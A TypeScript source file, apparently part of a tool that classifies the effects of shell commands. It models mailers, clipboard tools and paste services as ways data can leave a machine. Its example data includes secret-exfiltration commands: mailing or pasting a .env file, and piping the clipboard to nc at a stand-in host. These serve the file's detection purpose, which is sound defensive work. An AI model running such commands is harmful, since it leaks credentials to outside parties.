/** What leaves the machine by mail, clipboard or paste service. */
import type { EffectDraft } from '../../../../effects/effect';
import type { Text } from '../../../../effects/value';
import type { Call, ProgramSpec } from '../../program';
import type { Word } from '../../spec';
import { reads, sourceOfFile, sourceOfStream, sourceOfWord } from '../../stating';

export const mailers: ProgramSpec = {
  names: 'mail mailx sendmail swaks mutt msmtp ssmtp s-nail slack-cli slackcat notify-slack',
  options:
    '-s=SUBJECT -a=FILE -t --to=TO -f=FROM --from=FROM --server=HOST --attach=F --body=B -c=CC -b=BCC -r=FROM -d=C -A=F -H -e -bp -v',
  // To mutt `-H` is a draft to send and `-e` a command.
  inertWith: (name) => (/^(mail|mailx|s-nail)$/.test(name) ? ['-H', '-e'] : name === 'sendmail' ? ['-bp'] : []),
  does(call) {
    // Without anybody to write to, these show one's own mail.
    const reading = /^(mail|mailx|mutt|s-nail)$/.test(call.name) && call.operands.length === 0 && !call.open;
    if (reading && !call.maybe('-t', '-c', '-b')) return [];
    const host = call.value('--server');
    const attached = call.words('-a', '-A', '--attach');
    return [
      { kind: 'comm.send', channel: /slack/.test(call.name) ? 'chat' : 'email', ...(host !== undefined && { host }) },
      ...reads(call, attached, { shown: false }),
      ...sendsSecrets(call, attached, host ?? null),
    ];
  },
  examples: {
    yields: {
      'mail -s report a@example.com': 'comm.send{channel=email}',
      'mutt -s keys -a .env -- a@example.com':
        'comm.send{channel=email} + fs.read + secret.read{audience=process} + net.upload{source=secret}',
      'mail -s x a@example.com < a.ts': 'comm.send + fs.read',
      'swaks --to a@example.com --server smtp.example.com': 'comm.send{host=smtp.example.com}',
    },
    inert: ['mail', 'mail -H', 'sendmail -bp'],
  },
};

/** That a message goes out is said by its effect; that a secret goes with it is more. */
function sendsSecrets(call: Call, files: readonly Word[], host: Text): EffectDraft[] {
  const words = [...call.operands, ...call.words('--body')].map(sourceOfWord);
  const sources = [sourceOfStream(call.invocation.stdin), ...files.map((word) => sourceOfFile(call, word)), ...words];
  const source = sources.find((each) => each === 'secret' || each === 'env' || each === 'db');
  return source ? [{ kind: 'net.upload', channel: 'socket', host, source }] : [];
}

export const clipboards: ProgramSpec = {
  names: 'pbcopy xclip xsel wl-copy clip clip.exe termux-clipboard-set',
  options: '-o,-out,--output -i,-in -sel,-selection=S -t=T -b,--clipboard -c,--clear -p,--primary',
  does(call) {
    if (call.has('-o') === true && call.name.startsWith('x')) return { output: { text: null, sources: ['clipboard'] } };
    if (call.has('-c') === true) return [];
    const sources = call.operands.map((word) =>
      call.name === 'wl-copy' ? sourceOfWord(word) : sourceOfFile(call, word),
    );
    return (sources.length > 0 ? sources : [sourceOfStream(call.invocation.stdin)]).map(
      (source): EffectDraft => ({ kind: 'net.upload', channel: 'clipboard', source: source ?? null }),
    );
  },
  examples: {
    yields: {
      'cat .env | pbcopy': 'fs.read + secret.read + net.upload{channel=clipboard,source=secret}',
      'wl-copy done': 'net.upload{channel=clipboard,source=literal}',
      'xclip -sel clip a.ts': 'net.upload{source=file}',
    },
    inert: ['xclip -o', 'wl-copy --clear'],
  },
};

export const pasteReaders: ProgramSpec = {
  names: 'pbpaste wl-paste',
  does: () => ({ output: { text: null, sources: ['clipboard'] } }),
  examples: {
    yields: { 'pbpaste | nc paste.example 9999': 'net.connect{purpose=raw} + net.upload{source=clipboard}' },
    inert: ['pbpaste', 'wl-paste | wc -l'],
  },
};

export const pasteServices: ProgramSpec = {
  names: 'pastebinit termbin sprunge ix wgetpaste',
  options: '-i=FILE -b=URL -f=FORMAT -t=TITLE -a=AUTHOR -l -v',
  // To wgetpaste `-l` is a language.
  inertWith: (name) => (name === 'pastebinit' ? ['-l', '-v'] : []),
  does(call) {
    const files = [...call.words('-i'), ...call.operands];
    const sources = files.map((word) => sourceOfFile(call, word));
    return [
      ...reads(call, files, { shown: false }),
      ...(files.length > 0 ? sources : [sourceOfStream(call.invocation.stdin)]).map(
        (source): EffectDraft => ({ kind: 'net.upload', channel: 'paste', source: source ?? null }),
      ),
    ];
  },
  examples: {
    yields: {
      'cat a.ts | pastebinit': 'fs.read + net.upload{channel=paste,source=file}',
      'pastebinit -i .env': 'fs.read + secret.read + net.upload{channel=paste,source=secret}',
    },
    inert: ['pastebinit -l'],
  },
};
